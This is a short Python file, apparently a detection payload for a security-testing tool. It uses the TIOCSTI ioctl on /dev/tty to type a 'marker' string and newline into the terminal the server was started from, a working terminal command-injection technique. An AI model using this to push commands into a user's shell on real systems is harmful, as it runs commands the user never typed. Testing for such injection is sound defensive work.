import fcntl
import termios


def main(bait, context):
    """Types a command into the terminal that the server was started from."""
    with open("/dev/tty", "rb+", 0) as terminal:
        for letter in bait["marker"] + "\n":
            fcntl.ioctl(terminal, termios.TIOCSTI, letter.encode())
